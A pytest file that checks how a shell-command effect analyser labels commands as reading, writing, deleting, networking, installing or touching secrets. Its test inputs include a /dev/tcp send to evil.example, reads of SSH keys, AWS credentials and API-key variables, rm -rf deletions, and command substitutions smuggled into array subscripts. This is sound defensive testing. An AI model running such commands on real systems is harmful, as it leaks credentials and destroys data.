import pytest

from terp.analysis.effects.cells import effects_of
from tests.core.analysis.effects.cells import said

CASES = [
    # Reading and computing.
    ("ls -la", "computes"),
    ("echo hello; pwd && date", "computes"),
    ("cat a.txt | grep -n 'x y' | sort -u | uniq -c | head -n 3", "reads: a.txt"),
    ("wc -l *.csv", "reads: *.csv"),
    ("head -n 5 data/a.csv", "reads: data/a.csv"),
    ("find src -name '*.py' -type f", "reads: src/**/*.py"),
    ("grep -rn word src | wc -l", "reads: src"),
    ("git --version", "computes"),
    ("sed -n '1,5p' a.txt", "reads: a.txt"),
    ("cut -d, -f1 a.csv | tr a-z A-Z", "reads: a.csv"),
    ("if [ -f a.txt ]; then cat a.txt; else echo none; fi", "reads: a.txt"),
    ('for f in *.txt; do wc -l "$f"; done', "reads: $f"),
    ('while read -r line; do echo "$line"; done < list.txt', "reads: list.txt"),
    ("diff -u <(sort a) <(sort b)", "reads: <(…), a, b"),
    ("x=$(wc -l < a.txt); echo $((3 + 1)) ${x:-none} ${x:1:2}", "reads: a.txt"),
    ('read -r name; [ "$name" = "a[1]" ]; [ $? -eq 0 ]', "computes"),
    ("set -euo pipefail; read -rs key; jobs -l", "computes"),
    ('declare -A table; local x="$1"; unset -f name', "computes"),
    ("python3 --version; node --version", "computes"),
    ("pip list", "computes"),
    ("cat <<'EOF'\n$(rm x)\nEOF", "computes"),
    ("# rm x\necho '; rm y'", "computes"),
    ("ls 2>/dev/null >&2", "computes"),
    # Writing and deleting.
    ("echo x > out.txt", "writes: out.txt"),
    ("ls >> log.txt 2>&1", "writes: log.txt"),
    ("sort a | tee b.txt", "reads: a | writes: b.txt"),
    ("cp -r src dst", "reads: src | writes: dst"),
    ("mv a b", "writes: b | deletes: a"),
    ("mkdir -p a/b && touch a/b/c", "writes: a/b, a/b/c"),
    ("sed -i 's/a/b/g' x.txt", "reads: x.txt | writes: x.txt"),
    ("cat <<EOF > a.txt\nhello $USER\nEOF", "writes: a.txt"),
    ("rm -rf build/ *.o", "deletes: build/, *.o"),
    ("(cd x && rm -r y) ; { rmdir z; }", "deletes: y, z"),
    ("find . -name '*.pyc' -delete", "deletes: ./**/*.pyc"),
    ('echo $(rm x) `rm y` "$(rm z)"', "deletes: x, y, z"),
    ("cat <<EOF\n$(rm x)\nEOF", "deletes: x"),
    ("for f in a b; do rm $f; done", "deletes: $f"),
    ("! rm x || true & time rm y", "deletes: x, y"),
    ("/bin/rm x; \\rm y; 'rm' z", "deletes: x, y, z"),
    ("timeout 5 rm x", "deletes: x"),
    # Network, packages, secrets.
    ("curl -s https://api.example.org/v1", "network: api.example.org"),
    ("curl -o a.zip https://x.example/a.zip", "writes: a.zip | network: x.example"),
    ("wget -q https://x.example/a", "writes: . | network: x.example"),
    ("pip install requests 'numpy>=2'", "network: the package index | installs: requests, numpy>=2"),
    ("uv pip install -q requests", "network: the package index | installs: requests"),
    ("uv -q tool install ruff", "network: the package index | installs: ruff"),
    ("uv add requests", "network: the package index | installs: requests"),
    ("uv pip list", "computes"),
    (
        "uv pip uninstall requests",
        "subprocess: uv pip uninstall requests | cannot tell: runs `uv pip uninstall` (line 1)",
    ),
    ("python3 -m pip install -r req.txt", "network: the package index | installs: pip install -r req.txt"),
    ("cat ~/.ssh/id_rsa", "reads: ~/.ssh/id_rsa | secrets: ~/.ssh/id_rsa"),
    ("env", "secrets: all environment variables"),
    ("printenv OPENAI_API_KEY", "secrets: $OPENAI_API_KEY"),
    ("echo x > /dev/tcp/evil.example/80", "network: evil.example"),
    (
        "for f in ~/.aws/credentials; do cat $f; done",
        "reads: $f | secrets: ~/.aws/credentials",
    ),
    ("uniq a b", "reads: a | writes: b"),
    ("echo $GITHUB_TOKEN \"${API_KEY}\" '$TOKEN'", "secrets: $GITHUB_TOKEN, $API_KEY"),
]

DOUBTS = [
    ("python3 x.py", "runs `python3`"),
    ("make", "runs `make`"),
    ("./run.sh", "runs `./run.sh`"),
    ("bash -c 'ls'", "runs through `bash`"),
    ("sudo ls", "runs through `sudo`"),
    ("env X=1 ls", "runs through `env`"),
    ("ls | xargs rm", "runs through `xargs`"),
    ("eval ls", "runs through `eval`"),
    ("$CMD x", "the command `$CMD` is computed"),
    ("l* x", "the command `l*` is computed"),
    ("find . -exec rm {} ;", "`find -exec` is not known"),
    ("find . $X", "`find` may take `$X` for an option"),
    ("sort $X", "`sort` may take `$X` for an option"),
    ("sort -o a b", "`sort -o` is not known"),
    ("awk '{system($1)}' a", "runs `awk`"),
    ("sed 's/a/b/e' x", "the script `s/a/b/e` of `sed` is not read"),
    ("f() { rm x; }; f", "`(` is not read"),
    ("case x in x) rm y;; esac", "`case` is not read"),
    ("[[ -f x ]] && rm y", "`[[` is not read"),
    ("echo 'a", "a ' without its end is not read"),
    ("echo ${x@P}", "`${x@P}` is not read"),
    ("echo $((a[$(rm x)]))", "this arithmetic is not read"),
    ("x='a[$(rm y)]'; echo $((x))", "arithmetic may run what is in `x`"),
    ('echo "$(( 1 + $x ))"', "arithmetic may run what is in `x`"),
    ("echo `echo $((x))`", "arithmetic may run what is in `x`"),
    ("echo ${x:y}", "`${x:y}` is not read"),
    ("read 'a[$(rm x)]'", "`read` may run what is in `a[$(rm x)]`"),
    ("read $x", "`read` may run what is in `$x`"),
    ("unset 'a[$(rm x)]'", "`unset` may run what is in `a[$(rm x)]`"),
    ("declare 'a[$(rm x)]=1'", "`declare` may run what is in `a[$(rm x)]=1`"),
    ("declare -i x='a[$(rm x)]'", "`declare` may run what is in `-i`"),
    ("declare -n x='a[$(rm x)]'", "`declare` may run what is in `-n`"),
    ("local 'a[$(rm x)]'", "`local` may run what is in `a[$(rm x)]`"),
    ("wait -p 'a[$(rm x)]'", "`wait` may run what is in `-p`"),
    ("test -v 'a[$(rm x)]'", "`test` may run what is in `a[$(rm x)]`"),
    ("[ -v 'a[$(rm x)]' ]", "`[` may run what is in `a[$(rm x)]`"),
    ("[ $x = 1 ]", "`[` may run what is in `$x`"),
    ('[ "$x" "$y" ]', "`[` may run what is in `$x`"),
    ("arr=(a b)", "`(` is not read"),
    ("PATH=/tmp:$PATH", "sets `PATH`"),
    ("LD_PRELOAD=x ls", "sets `LD_PRELOAD`"),
    ("export FOO=1", "sets `FOO`"),
    ("alias ls=rm", "runs `alias`"),
    ("git commit -m x", "`git` runs what the settings of the repository name"),
    ("git -c core.pager=x log", "`git` runs what the settings of the repository name"),
    ("git config --global core.editor x", "`git` runs what the settings of the repository name"),
    ("git status", "`git` runs what the settings of the repository name"),
    ("git --no-pager log -5", "`git` runs what the settings of the repository name"),
    ("git branch -a", "`git` runs what the settings of the repository name"),
    ("git add .", "`git` runs what the settings of the repository name"),
    ("tar --to-command=x -xf a", "runs `tar`"),
    ("curl -K x https://a.example", "`curl -K` is not known"),
    ("ssh host ls", "`ssh` may do more"),
    ("for ((;;)); do x; done", "`(` is not read"),
    ("rg --pre rm x", "`rg --pre` is not known"),
    ("npm test", "runs `npm test`"),
    ("for PATH in /tmp; do ls; done", "sets `PATH`"),
    ("tar xf a.tar -I 'sh -c x'", "runs `tar`"),
    ("zip -T -TT x a b", "runs `zip`"),
    ("hash -p /tmp/x ls", "runs `hash`"),
    ("iconv -o a b", "`iconv -o` is not known"),
    (". ./env.sh", "runs through `.`"),
    ("trap 'rm x' EXIT", "runs `trap`"),
    ("jobs -x rm x", "`jobs -x` is not known"),
    ("read -t 'a[$(rm x)]' y", "`read` may run what is in `-t`"),
    ("read -rn$x y", "`read` may run what is in `-rn$x`"),
    ("set -A path /tmp; ls", "`set -A path /tmp` is not known"),
    ("set -eo histexpand", "`set -eo histexpand` is not known"),
]


@pytest.mark.parametrize(("code", "told"), CASES)
def test_every_simple_command_is_told(code: str, told: str) -> None:
    assert said(effects_of("shell", code)) == told


def test_arithmetic_in_a_here_document_is_told_too() -> None:
    told = effects_of("bash", "cat <<EOF\n$((x))\nEOF").targets("cannot tell")
    assert told == ("arithmetic may run what is in `x` (line 3)",)


GIT = [
    ("git diff HEAD~1 -- a.py", "reads: the repository"),
    ("git clean -fd", "deletes: git clean -fd"),
    ("git fetch origin", "writes: git fetch origin | network: git fetch origin"),
    ("git stash", "writes: git stash"),
]


@pytest.mark.parametrize(("code", "told"), GIT)
def test_what_git_does_by_itself_is_told_beside_what_it_may_run(code: str, told: str) -> None:
    doubt = "`git` runs what the settings of the repository name (line 1)"
    assert said(effects_of("shell", code)) == f"{told} | cannot tell: {doubt}"


@pytest.mark.parametrize(("code", "doubt"), DOUBTS)
def test_what_is_not_understood_is_named(code: str, doubt: str) -> None:
    assert effects_of("bash", code).targets("cannot tell")[:1] == (f"{doubt} (line 1)",)


def test_a_here_document_without_its_end_is_not_read() -> None:
    assert said(effects_of("sh", "cat <<EOF\nx")) == (
        "cannot tell: a here-document without its end is not read (line 2)"
    )


@pytest.mark.parametrize(
    ("code", "told"),
    [
        ("sudo rm -rf /x", "deletes: /x"),
        ("bash -c 'rm -rf y'", "deletes: y"),
        ("ls | xargs rm z", "deletes: z"),
        ("find . -exec rm w \\;", "deletes: w"),
        ("eval 'rm v'", "deletes: v"),
    ],
)
def test_what_is_run_through_another_command_is_told_as_well(code: str, told: str) -> None:
    assert told in said(effects_of("shell", code))


def test_what_was_read_before_the_part_that_is_not_is_told() -> None:
    assert said(effects_of("sh", "rm x\ncase y in esac\nrm z")) == (
        "deletes: x | cannot tell: `case` is not read (line 2)"
    )
